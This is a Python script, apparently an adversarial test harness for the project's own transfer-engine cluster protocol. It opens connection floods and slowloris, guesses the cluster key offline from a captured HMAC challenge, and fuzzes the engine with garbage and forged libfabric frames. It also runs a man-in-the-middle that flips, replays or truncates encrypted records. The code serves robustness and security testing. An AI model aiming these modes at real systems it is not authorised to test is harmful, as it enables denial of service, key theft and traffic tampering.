#!/usr/bin/env python3
"""A hostile host without the cluster key, against a running engine's port (issue 16, from outside).

Each mode opens plain sockets from this process, sends what the mode says, and prints one JSON line of what the
target did with them. Nothing here imports the engine: it is the attacker's view.

  flood HOST PORT --count N --send none|tls-hello|hello|garbage|slowloris [--hold S] [--source IP]
      N connections, each sends its bytes once (slowloris: a HELLO header one byte every 2 s), then holds the socket
      for S seconds. Reports how many connected, how many the target closed at once (within 1 s of the send) or
      later, and how many were still open when the hold ended. Writes the file named by --closed-file when every
      socket is closed, so a member process can time its recovery from that moment.
  challenge HOST PORT [--words FILE]
      Sends a genuine HELLO, reads the CHALLENGE (the acceptor's HMAC over known inputs) and guesses the cluster key
      offline from a word list (and the public loopback key): a weak key would fall here.
  relay LISTEN_PORT TARGET_HOST TARGET_PORT [--seconds S]
      Forwards every byte both ways between whoever connects to LISTEN_PORT and the target (a host a member dials by
      a stale descriptor). Reports the bytes it relayed each way.
  garbage HOST PORT --count N [--max-bytes B]
      N connections, each sends 1..B random bytes (seeded) and closes. For fabric/tcp endpoints too.
  forge HOST PORT --count N
      Connections that send plausible libfabric tcp/rxm connection requests and control headers with random fields.
  mitm LISTEN_PORT TARGET_HOST TARGET_PORT --action flip|replay|truncate [--record N] [--record-type T] [--seconds S]
      A man in the middle of a member's TLS connection with engine records (the member's packets are redirected to
      LISTEN_PORT, here by an iptables rule): forwards both ways, and on the first connection, in the member's
      direction, acts on its N-th engine record (type 0xE1; the first is the switch record): flips one byte of its
      ciphertext, sends it twice (a replay), or forwards half of it and closes both sides (truncated mid-record).
      Later connections are forwarded as they are. Reports the records it saw and what it did. --record-type 0x17
      counts TLS application-data records instead (tcp.tlsRecords=jsse, or before the switch).
  tls-garbage HOST PORT --pem FILE --count N [--cluster-key KEY]
      N connections, one after another, each completes a genuine TLS 1.3 handshake with a certificate the target
      trusts (FILE: certificate and key, PEM), offering engine records (ALPN); with --cluster-key it also completes the
      cluster-key handshake inside TLS (HELLO, CHALLENGE, AUTH: a member). Then instead of records it sends, in turn:
      a forged engine record (random bytes under a valid header), a TLS application-data record of random bytes, an
      engine record header announcing 2 GiB, 4 KiB of random bytes, half of an engine record and then the end of the
      stream. Reports for each kind how many connections the target closed within 2 s. --hold S sends nothing and
      holds all N connections open for S seconds instead (what idle authenticated connections cost the target).
"""
import argparse
import base64
import hashlib
import hmac
import json
import os
import signal
import random
import socket
import ssl
import struct
import sys
import threading
import time

MAGIC = 0x474E4554
VERSION = 3
HELLO, CHALLENGE = 1, 8
HEADER = 48
PUBLIC_KEY = b"transfer-engine insecure: no cluster key configured"


def header(frame_type, token, length, imm=0, aux=0, rkey=0, offset=0, version=VERSION):
    return struct.pack("<IBBHiiqqqq", MAGIC, version, frame_type, 0, imm, aux, token, rkey, offset, length)


def tcp_address(ip, port):
    """NetworkAddress.toBytes() of a tcp address: version 1, name, family, port LE, IPv4 bytes."""
    name = b"tcp"
    return bytes([1, len(name)]) + name + bytes([4]) + struct.pack("<H", port) + socket.inet_aton(ip)


def hello_frame(source_ip, source_port):
    nonce = os.urandom(32)
    address = tcp_address(source_ip, source_port)
    incarnation = random.getrandbits(63)
    return header(HELLO, incarnation, 32 + len(address)) + nonce + address, nonce, incarnation, address


def tls_client_hello():
    """The bytes of a genuine TLS ClientHello, made by Python's own TLS stack (no certificate needed)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_side=False)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def connect(host, port, source):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if source:
        sock.bind((source, 0))
    sock.settimeout(10)
    sock.connect((host, port))
    sock.setblocking(False)
    return sock


def peer_closed(sock):
    """True if the target closed (or reset) this socket; reads and drops what it sent."""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def flood(args):
    payload = {
        "none": lambda s: b"",
        "tls-hello": lambda s: TLS_HELLO,
        "hello": lambda s: hello_frame(s.getsockname()[0], s.getsockname()[1])[0],
        "garbage": lambda s: os.urandom(random.randint(1, 4096)),
        "slowloris": lambda s: b"",
    }[args.send]
    sockets, failed_connects, closed_at_once = [], 0, 0
    started = time.monotonic()
    for _ in range(args.count):
        try:
            sock = connect(args.host, args.port, args.source)
        except OSError:
            failed_connects += 1
            continue
        try:
            sock.send(payload(sock))
        except OSError:
            pass
        sockets.append([sock, time.monotonic(), None])
    flooded = time.monotonic() - started
    slow = header(HELLO, 1, 64)  # slowloris: a HELLO header, one byte every 2 s to every open socket
    end = time.monotonic() + args.hold
    sent_bytes = 0
    while time.monotonic() < end:
        now = time.monotonic()
        for entry in sockets:
            if entry[2] is None and peer_closed(entry[0]):
                entry[2] = now
                if now - entry[1] < 1.0:
                    closed_at_once += 1
        if args.send == "slowloris" and sent_bytes < len(slow) and now - started >= 2 * (sent_bytes + 1):
            for entry in sockets:
                if entry[2] is None:
                    try:
                        entry[0].send(slow[sent_bytes : sent_bytes + 1])
                    except OSError:
                        entry[2] = now
            sent_bytes += 1
        time.sleep(0.2)
    open_at_end = sum(1 for entry in sockets if entry[2] is None)
    for entry in sockets:
        entry[0].close()
    if args.closed_file:
        with open(args.closed_file, "w") as out:
            out.write(str(time.time()))
    print(json.dumps({
        "mode": "flood", "send": args.send, "count": args.count, "source": args.source,
        "connected": len(sockets), "connect_failed": failed_connects, "seconds_to_open": round(flooded, 2),
        "closed_by_target_within_1s": closed_at_once,
        "closed_by_target_later": len(sockets) - open_at_end - closed_at_once,
        "open_when_hold_ended": open_at_end, "hold_s": args.hold}))


def read_exactly(sock, n, timeout=10):
    sock.settimeout(timeout)
    data = b""
    while len(data) < n:
        chunk = sock.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed after %d of %d bytes" % (len(data), n))
        data += chunk
    return data


def challenge(args):
    sock = socket.create_connection((args.host, args.port), timeout=10)
    frame, nonce_c, incarnation_c, address_c = hello_frame(*sock.getsockname())
    sock.sendall(frame)
    head = read_exactly(sock, HEADER)
    magic, version, frame_type, _, _, _, incarnation_a, _, _, length = struct.unpack("<IBBHiiqqqq", head)
    body = read_exactly(sock, length)
    sock.close()
    if frame_type != CHALLENGE:
        print(json.dumps({"mode": "challenge", "error": "frame type %d, not CHALLENGE" % frame_type}))
        return
    nonce_a, proof, address_a = body[:32], body[32:64], body[64:]
    message = (b"transfer-engine v2 acceptor" + nonce_c + nonce_a + struct.pack("<q", incarnation_c)
               + struct.pack("<q", incarnation_a) + address_c + address_a)
    words = [PUBLIC_KEY]
    if args.words:
        with open(args.words, "rb") as source:
            words += [line.rstrip(b"\r\n") for line in source]
    started = time.monotonic()
    found = None
    for word in words:
        if hmac.compare_digest(hmac.new(word, message, hashlib.sha256).digest(), proof):
            found = word.decode("utf-8", "replace")
            break
    seconds = time.monotonic() - started
    print(json.dumps({"mode": "challenge", "guesses": len(words), "seconds": round(seconds, 2),
                      "guesses_per_s": int(len(words) / max(seconds, 1e-6)), "key_found": found}))


def relay(args):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", args.listen_port))
    listener.listen(64)
    listener.settimeout(1)
    relayed = {"to_target": 0, "to_dialler": 0, "connections": 0}
    lock = threading.Lock()

    def pump(source, sink, direction):
        try:
            while True:
                data = source.recv(65536)
                if not data:
                    break
                sink.sendall(data)
                with lock:
                    relayed[direction] += len(data)
        except OSError:
            pass
        finally:
            for sock in (source, sink):
                try:
                    sock.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    end = time.monotonic() + args.seconds
    print(json.dumps({"mode": "relay", "listening": args.listen_port}), flush=True)

    def stop(*_):
        print(json.dumps(dict(relayed, mode="relay")), flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, stop)
    while time.monotonic() < end:
        try:
            dialler, _ = listener.accept()
        except socket.timeout:
            continue
        target = socket.create_connection((args.target_host, args.target_port))
        relayed["connections"] += 1
        threading.Thread(target=pump, args=(dialler, target, "to_target"), daemon=True).start()
        threading.Thread(target=pump, args=(target, dialler, "to_dialler"), daemon=True).start()
    print(json.dumps(dict(relayed, mode="relay")), flush=True)


def sent_then_closed(sock, data):
    """Sends data; returns (bytes sent, 1 if the target then closed the socket within 50 ms else 0). Closes it."""
    sent = 0
    try:
        sock.sendall(data)
        sent = len(data)
        sock.settimeout(0.05)
        return sent, 1 if sock.recv(1) == b"" else 0
    except (socket.timeout, OSError):
        return sent, 0
    finally:
        sock.close()


def garbage(args):
    rng = random.Random(args.seed)
    sent, closed_by_target = 0, 0
    for _ in range(args.count):
        sock = socket.create_connection((args.host, args.port), timeout=10)
        data = bytes(rng.getrandbits(8) for _ in range(rng.randint(1, args.max_bytes)))
        delivered, closed = sent_then_closed(sock, data)
        sent += delivered
        closed_by_target += closed
    print(json.dumps({"mode": "garbage", "count": args.count, "bytes": sent,
                      "closed_by_target_within_50ms": closed_by_target}))


def forge(args):
    """Headers shaped like libfabric's tcp provider's (version byte, op codes, sizes) with random fields."""
    rng = random.Random(args.seed)
    reset = 0
    for i in range(args.count):
        sock = socket.create_connection((args.host, args.port), timeout=10)
        # a connect message: version, type, sequence, error, flags... then a random body of a plausible size
        frame = bytes([rng.choice([3, 4, 5]), rng.randint(0, 8)]) + bytes(rng.getrandbits(8) for _ in range(62))
        frame += struct.pack("<Q", rng.choice([0, 64, 4096, 1 << 20, (1 << 63) - 1]))
        frame += bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 512)))
        reset += sent_then_closed(sock, frame)[1]
    print(json.dumps({"mode": "forge", "count": args.count, "closed_by_target_within_50ms": reset}))


ENGINE_RECORD = 0xE1
ALPN = "transfer-engine-records/1"
AUTH = 9


def record_length(data, at):
    """The length of the record starting at data[at] with its header (engine records: type, 4-byte length; TLS records:
    type, version, 2-byte length), or None until its header is there."""
    if len(data) - at < 5:
        return None
    if data[at] == ENGINE_RECORD:
        return 5 + struct.unpack(">I", data[at + 1 : at + 5])[0]
    return 5 + struct.unpack(">H", data[at + 3 : at + 5])[0]


def mitm(args):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", args.listen_port))
    listener.listen(64)
    listener.settimeout(1)
    seen = {"mode": "mitm", "action": args.action, "connections": 0, "other_records_before": 0,
            "records_counted_before": 0, "acted": False, "record_bytes": 0, "up_bytes": 0, "down_bytes": 0}

    def raw(source, sink, direction):
        try:
            while True:
                data = source.recv(262144)
                if not data:
                    break
                sink.sendall(data)
                seen[direction] += len(data)
        except OSError:
            pass
        finally:
            for sock in (source, sink):
                try:
                    sock.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def tampering(source, sink):
        """The member's direction of the first connection: whole records until the N-th engine record."""
        data = bytearray()
        try:
            while True:
                chunk = source.recv(262144)
                if not chunk:
                    sink.sendall(data)
                    break
                data += chunk
                seen["up_bytes"] += len(chunk)
                at = 0
                while True:
                    length = record_length(data, at)
                    if length is None or len(data) - at < length:
                        break
                    record = bytes(data[at : at + length])
                    if record[0] != args.record_type:
                        seen["other_records_before"] += 1
                        at += length
                        continue
                    seen["records_counted_before"] += 1
                    if seen["records_counted_before"] < args.record:
                        at += length
                        continue
                    seen["records_counted_before"] -= 1
                    seen["record_bytes"] = length
                    sink.sendall(data[:at])
                    if args.action == "flip":
                        tampered = bytearray(record)
                        tampered[5 + (length - 5) // 2] ^= 0x01  # a ciphertext byte in the middle
                        sink.sendall(tampered)
                    elif args.action == "replay":
                        sink.sendall(record + record)
                    else:  # truncate: half of the record, then the end of both streams
                        sink.sendall(record[: length // 2])
                        seen["acted"] = True
                        for sock in (sink, source):
                            sock.shutdown(socket.SHUT_RDWR)
                        return
                    seen["acted"] = True
                    sink.sendall(data[at + length :])
                    raw(source, sink, "up_bytes")
                    return
                sink.sendall(data[:at])
                del data[:at]
        except OSError:
            pass

    def stop(*_):
        print(json.dumps(seen), flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, stop)
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        try:
            dialler, _ = listener.accept()
        except socket.timeout:
            continue
        target = socket.create_connection((args.target_host, args.target_port))
        seen["connections"] += 1
        up = tampering if seen["connections"] == 1 else lambda a, b: raw(a, b, "up_bytes")
        threading.Thread(target=up, args=(dialler, target), daemon=True).start()
        threading.Thread(target=raw, args=(target, dialler, "down_bytes"), daemon=True).start()
    stop()


class TlsClient:
    """A TLS 1.3 client over a plain socket (ssl.MemoryBIO), so that after the handshake raw bytes can follow."""

    def __init__(self, host, port, pem):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.load_cert_chain(pem)
        context.set_alpn_protocols([ALPN])
        self.sock = socket.create_connection((host, port), timeout=10)
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_side=False)
        self.raw = bytearray()  # bytes from the socket not yet fed to TLS
        self.engine_records = 0
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.flush()
                self.feed()
        self.flush()

    def flush(self):
        data = self.outgoing.read()
        if data:
            self.sock.sendall(data)

    def feed(self):
        """Reads from the socket; passes whole TLS records to TLS, counts engine records (which it cannot open)."""
        chunk = self.sock.recv(65536)
        if not chunk:
            raise ConnectionError("closed by the target")
        self.raw += chunk
        while True:
            length = record_length(self.raw, 0)
            if length is None or len(self.raw) < length:
                return
            if self.raw[0] == ENGINE_RECORD:
                self.engine_records += 1
            else:
                self.incoming.write(bytes(self.raw[:length]))
            del self.raw[:length]

    def write(self, data):
        self.tls.write(data)
        self.flush()

    def read_exactly(self, n):
        data = b""
        while len(data) < n:
            try:
                data += self.tls.read(n - len(data))
            except ssl.SSLWantReadError:
                self.feed()
        return data


def member_handshake(client, key):
    """HELLO, CHALLENGE, AUTH inside TLS, as a member holding the cluster key."""
    frame, nonce_c, incarnation_c, address_c = hello_frame(*client.sock.getsockname())
    client.write(frame)
    head = client.read_exactly(HEADER)
    _, _, frame_type, _, _, _, incarnation_a, _, _, length = struct.unpack("<IBBHiiqqqq", head)
    body = client.read_exactly(length)
    if frame_type != CHALLENGE:
        raise ConnectionError("frame type %d, not CHALLENGE" % frame_type)
    nonce_a, address_a = body[:32], body[64:]
    message = (b"transfer-engine v2 connector" + nonce_c + nonce_a + struct.pack("<q", incarnation_c)
               + struct.pack("<q", incarnation_a) + address_c + address_a)
    client.write(header(AUTH, 0, 32) + hmac.new(key, message, hashlib.sha256).digest())


def garbage_kinds(rng):
    return {
        "forged_engine_record": lambda: bytes([ENGINE_RECORD]) + struct.pack(">I", 1032) + rng.randbytes(1032),
        "random_tls_record": lambda: b"\x17\x03\x03" + struct.pack(">H", 1000) + rng.randbytes(1000),
        "engine_record_of_2GiB": lambda: bytes([ENGINE_RECORD]) + struct.pack(">I", 0x7FFFFFF0) + rng.randbytes(4096),
        "random_bytes": lambda: rng.randbytes(4096),
        "half_an_engine_record_then_end": lambda: bytes([ENGINE_RECORD]) + struct.pack(">I", 100000)
        + rng.randbytes(5000),
    }


def tls_garbage(args):
    rng = random.Random(args.seed)
    kinds = garbage_kinds(rng)
    names = list(kinds)
    key = base64.b64decode(args.cluster_key) if args.cluster_key else None
    result = {"mode": "tls-garbage", "member": key is not None, "count": args.count, "handshake_failed": 0,
              "first_handshake_error": None, "engine_records_from_target": 0}
    for name in names:
        result[name] = {"sent": 0, "closed_by_target_within_2s": 0}
    held = []
    for i in range(args.count):
        name = names[i % len(names)]
        try:
            client = TlsClient(args.host, args.port, args.pem)
            if key is not None:
                member_handshake(client, key)
            client.sock.settimeout(0.1)
            try:
                client.feed()  # the target's switch record, if it wrote one by now
            except (socket.timeout, ssl.SSLError):
                pass
            result["engine_records_from_target"] += client.engine_records
        except (OSError, ConnectionError, ssl.SSLError) as e:
            result["handshake_failed"] += 1
            result["first_handshake_error"] = result["first_handshake_error"] or repr(e)
            continue
        if args.hold:
            held.append(client.sock)
            continue
        sock = client.sock
        try:
            sock.sendall(kinds[name]())
            if name.startswith("half"):
                sock.shutdown(socket.SHUT_WR)
            result[name]["sent"] += 1
            sock.settimeout(2)
            while sock.recv(65536):
                pass
            result[name]["closed_by_target_within_2s"] += 1
        except socket.timeout:
            pass
        except OSError:
            result[name]["closed_by_target_within_2s"] += 1
        finally:
            sock.close()
    if args.hold:
        # connections that completed everything and then sit there: what each costs the target, all at once
        print(json.dumps({"mode": "tls-garbage", "held": len(held), "hold_s": args.hold}), flush=True)
        time.sleep(args.hold)
        result = {"mode": "tls-held", "member": key is not None, "count": args.count, "held": len(held),
                  "handshake_failed": result["handshake_failed"],
                  "first_handshake_error": result["first_handshake_error"],
                  "closed_by_target_while_held": sum(1 for sock in held if peer_closed_blocking(sock))}
        for sock in held:
            sock.close()
    print(json.dumps(result))


def peer_closed_blocking(sock):
    sock.setblocking(False)
    return peer_closed(sock)


TLS_HELLO = b""

if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    modes = parser.add_subparsers(dest="mode", required=True)
    p = modes.add_parser("flood")
    p.add_argument("host"); p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=1500)
    p.add_argument("--send", default="none", choices=["none", "tls-hello", "hello", "garbage", "slowloris"])
    p.add_argument("--hold", type=float, default=20)
    p.add_argument("--source")
    p.add_argument("--closed-file")
    p = modes.add_parser("challenge")
    p.add_argument("host"); p.add_argument("port", type=int)
    p.add_argument("--words")
    p = modes.add_parser("relay")
    p.add_argument("listen_port", type=int); p.add_argument("target_host"); p.add_argument("target_port", type=int)
    p.add_argument("--seconds", type=float, default=60)
    p = modes.add_parser("garbage")
    p.add_argument("host"); p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=200)
    p.add_argument("--max-bytes", type=int, default=4096)
    p.add_argument("--seed", type=int, default=16)
    p = modes.add_parser("mitm")
    p.add_argument("listen_port", type=int); p.add_argument("target_host"); p.add_argument("target_port", type=int)
    p.add_argument("--action", required=True, choices=["flip", "replay", "truncate"])
    p.add_argument("--record", type=int, default=4)
    p.add_argument("--record-type", type=lambda text: int(text, 0), default=ENGINE_RECORD,
                   help="the type of the records counted: 0xE1 (engine records) or 0x17 (TLS application data)")
    p.add_argument("--seconds", type=float, default=60)
    p = modes.add_parser("tls-garbage")
    p.add_argument("host"); p.add_argument("port", type=int)
    p.add_argument("--pem", required=True)
    p.add_argument("--count", type=int, default=100)
    p.add_argument("--cluster-key")
    p.add_argument("--hold", type=float, default=0, help="send nothing; hold every connection this long")
    p.add_argument("--seed", type=int, default=16)
    p = modes.add_parser("forge")
    p.add_argument("host"); p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=200)
    p.add_argument("--seed", type=int, default=16)
    arguments = parser.parse_args()
    if arguments.mode == "flood" and arguments.send == "tls-hello":
        TLS_HELLO = tls_client_hello()
    {"flood": flood, "challenge": challenge, "relay": relay, "garbage": garbage, "forge": forge, "mitm": mitm,
     "tls-garbage": tls_garbage}[arguments.mode](
        arguments)
    sys.stdout.flush()
